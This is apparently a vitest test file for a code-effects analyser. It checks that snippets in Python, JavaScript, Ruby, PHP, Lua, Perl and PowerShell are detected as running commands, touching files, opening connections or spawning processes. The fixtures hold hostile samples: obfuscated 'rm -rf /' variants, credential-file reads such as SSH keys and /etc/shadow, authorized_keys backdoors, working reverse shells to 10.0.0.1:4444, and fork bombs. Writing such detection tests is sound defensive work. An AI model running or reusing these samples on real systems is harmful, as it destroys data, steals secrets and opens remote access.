/**
 * What every language's producer states alike, as tables: a row per language and spelling.
 * Each language's own index.test.ts keeps what only that language does.
 */
import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../test/support/code-effects.js';

/** [language, code, the command line it hands the bash producer]. */
const COMMAND_LINES: Array<[string, string, string]> = [
  ['python', 'import os\nc = "r" + "m -rf /"\nos.system(c)', 'rm -rf /'],
  ['python', 'import os\nt = "/"\nos.system(f"rm -rf {t}")', 'rm -rf /'],
  ['python', 'import os\nos.system("rm -rf %s" % "/")', 'rm -rf /'],
  ['python', 'import os\nos.system("{} -rf {}".format("rm", "/"))', 'rm -rf /'],
  ['python', 'import os\nos.system(" ".join(["rm", "-rf", "/"]))', 'rm -rf /'],
  ['python', 'import os\nos.system("/ fr- mr"[::-1])', 'rm -rf /'],
  ['python', 'import os,base64\nos.system(base64.b64decode("cm0gLXJmIC8=").decode())', 'rm -rf /'],
  ['python', 'import os\nos.system(bytes.fromhex("726d202d7266202f").decode())', 'rm -rf /'],
  ['python', 'import os,codecs\nos.system(codecs.decode("ez -es /", "rot13"))', 'rm -rf /'],
  ['python', 'import os\nos.system(chr(114)+chr(109)+" -rf /")', 'rm -rf /'],
  // Import aliases, from-imports and star imports.
  ['python', 'from os import system as s\ns("id")', 'id'],
  ['python', 'import os as o\no.system("id")', 'id'],
  ['python', 'from os import *\nsystem("id")', 'id'],
  ['python', '__import__("os").system("id")', 'id'],
  ['python', 'getattr(__import__("os"), "system")("id")', 'id'],
  // child_process in every import spelling, and the decoders.
  ['javascript', 'require("child_process").execSync("rm -rf /")', 'rm -rf /'],
  ['javascript', 'const cp = require("node:child_process"); cp.exec("rm -rf /")', 'rm -rf /'],
  ['javascript', 'const { execSync: run } = require("child_process"); run("rm -rf /")', 'rm -rf /'],
  ['javascript', 'import { execSync } from "child_process"; execSync("rm -rf /")', 'rm -rf /'],
  ['javascript', 'import * as cp from "child_process"; cp.execSync(`rm -rf ${"/"}`)', 'rm -rf /'],
  ['javascript', 'require("child_process")["exec" + "Sync"]("rm -rf /")', 'rm -rf /'],
  ['javascript', 'require("child_process").execSync(atob("aWQ="))', 'id'],
  ['javascript', 'require("child_process").execSync(String.fromCharCode(105, 100))', 'id'],
  ['javascript', 'require("child_process").execSync("/ fr- mr".split("").reverse().join(""))', 'rm -rf /'],
  // Backticks, %x, interpolation and the decoders.
  ['ruby', 'x = "/"; `rm -rf #{x}`', 'rm -rf /'],
  ['ruby', '%x(id)', 'id'],
  ['ruby', 'Kernel.exec("c" + "url x | sh")', 'curl x | sh'],
  ['ruby', 'open("|id")', 'id'],
  ['ruby', 'system("aWQ=".unpack1("m"))', 'id'],
  ['ruby', 'system("vq".tr("A-Za-z", "N-ZA-Mn-za-m"))', 'id'],
  // Shell functions, backticks and functions named by strings.
  ['php', 'system("rm -rf /");', 'rm -rf /'],
  ['php', 'echo `id`;', 'id'],
  ['php', '$f = "sys" . "tem"; $f("id");', 'id'],
  ['php', 'SHELL_EXEC(str_rot13("vq"));', 'id'],
  ['php', '<?php passthru(hex2bin("6964")); ?>', 'id'],
  // os.execute/io.popen with folded strings.
  ['lua', 'os.execute("rm " .. "-rf /")', 'rm -rf /'],
  ['lua', 'io.popen(string.char(105, 100))', 'id'],
  ['lua', 'local c = "\\105\\100"; os.execute(c)', 'id'],
  // system, backticks and piped opens.
  ['perl', 'system("rm -rf /");', 'rm -rf /'],
  ['perl', 'my $x = `id`;', 'id'],
  ['perl', 'my $c = "r" . "m -rf /"; system($c);', 'rm -rf /'],
  ['perl', 'open(my $f, "-|", "id");', 'id'],
  ['perl', 'system(pack("H*", "6964"));', 'id'],
];

/** [language, code, effect type, the path it states]. */
const PATHS: Array<[string, string, 'delete' | 'read' | 'write', string]> = [
  ['javascript', 'const k = require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8")', 'read', '/home/u/.ssh/id_rsa'],
  ['ruby', 'File.delete(File.expand_path("~/.bashrc"))', 'delete', '/home/u/.bashrc'],
  ['php', 'echo file_get_contents("/etc/shadow");', 'read', '/etc/shadow'],
  ['php', 'file_put_contents("/home/u/.ssh/authorized_keys", "ssh-rsa AAA", FILE_APPEND);', 'write', '/home/u/.ssh/authorized_keys'],
  ['lua', 'os.remove("/etc/hosts")', 'delete', '/etc/hosts'],
  // Code loaded from a string runs through the same producer.
  ['lua', 'load("os.remove(\'/x\')")()', 'delete', '/x'],
  ['perl', 'unlink "/etc/passwd";', 'delete', '/etc/passwd'],
  ['perl', 'use MIME::Base64; eval(decode_base64("dW5saW5rICIvZXRjL3Bhc3N3ZCI7"));', 'delete', '/etc/passwd'],
  ['powershell', '[System.IO.File]::Delete("/etc/passwd")', 'delete', '/etc/passwd'],
  ['powershell', '"Remove-Item /etc" | iex', 'delete', '/etc'],
];

/** [language, code that connects to 10.0.0.1:4444 and hands the connection to a shell]. */
const REVERSE_SHELLS: Array<[string, string]> = [
  ['python', 'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")'],
  ['javascript', 'const net = require("net"), sh = require("child_process").spawn("/bin/sh", []); const c = new net.Socket(); c.connect(4444, "10.0.0.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });'],
  ['ruby', 'require "socket"; s = TCPSocket.new("10.0.0.1", 4444); exec("/bin/sh -i <&3 >&3 2>&3")'],
  ['php', '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
  ['lua', 'local s = require("socket"); local t = s.tcp(); t:connect("10.0.0.1", 4444); while true do local c = t:receive(); os.execute(c) end'],
  ['perl', 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'],
  ['powershell', '$c = New-Object Net.Sockets.TCPClient("10.0.0.1", 4444); $s = $c.GetStream(); while ($true) { $d = $r.ReadLine(); iex $d }'],
];

/** [language, code that starts processes in a loop with no bound]. */
const FORK_LOOPS: Array<[string, string]> = [
  ['python', 'import os\nwhile True:\n    os.fork()'],
  ['typescript', 'const n: number = 1; while (true) { require("child_process").fork("x.js") }'],
  ['javascript', 'setInterval(() => require("cluster").fork(), 1)'],
  ['ruby', 'loop do fork end'],
  ['php', 'while(true){pcntl_fork();}'],
];

/** [language, everyday code that states nothing]. */
const EVERYDAY: Array<[string, string]> = [
  ['python', 'import json, sys\nprint(json.dumps({"a": 1}, indent=2))'],
  ['python', 'print(sum(range(10)))'],
  ['typescript', 'const x: string[] = ["a"]; console.log(x.map((s) => s.toUpperCase()).join(","))'],
  ['ruby', 'puts [1, 2, 3].map { |x| x * 2 }.sum'],
  ['php', 'echo json_encode(["a" => 1]);'],
  ['lua', 'print(string.format("%d", 1 + 2))'],
  ['perl', 'print join(",", map { $_ * 2 } (1, 2, 3)), "\\n";'],
  ['powershell', 'Get-ChildItem | Where-Object { $_.Length -gt 1 } | Select-Object Name'],
];

describe('every code producer', () => {
  it.each(COMMAND_LINES)('%s: %j runs %j', (language, code, line) => {
    expect(of(effectsOf(language)(code), 'exec')[0]?.code).toBe(line);
  });

  it.each(PATHS)('%s: %j states %s of %s', (language, code, type, path) => {
    expect(of(effectsOf(language)(code), type)[0]?.path.path).toBe(path);
  });

  it.each(REVERSE_SHELLS)('%s: a reverse shell is a connection marked shell', (language, code) => {
    expect(of(effectsOf(language)(code), 'connect')[0]).toMatchObject({ host: '10.0.0.1', port: 4444, shell: true });
  });

  it.each(FORK_LOOPS)('%s: %j spawns without bound', (language, code) => {
    expect(of(effectsOf(language)(code), 'spawn')[0]).toMatchObject({ unbounded: true });
  });

  it.each(EVERYDAY)('%s: %j states nothing', (language, code) => {
    expect(effectsOf(language)(code)).toEqual([]);
  });
});
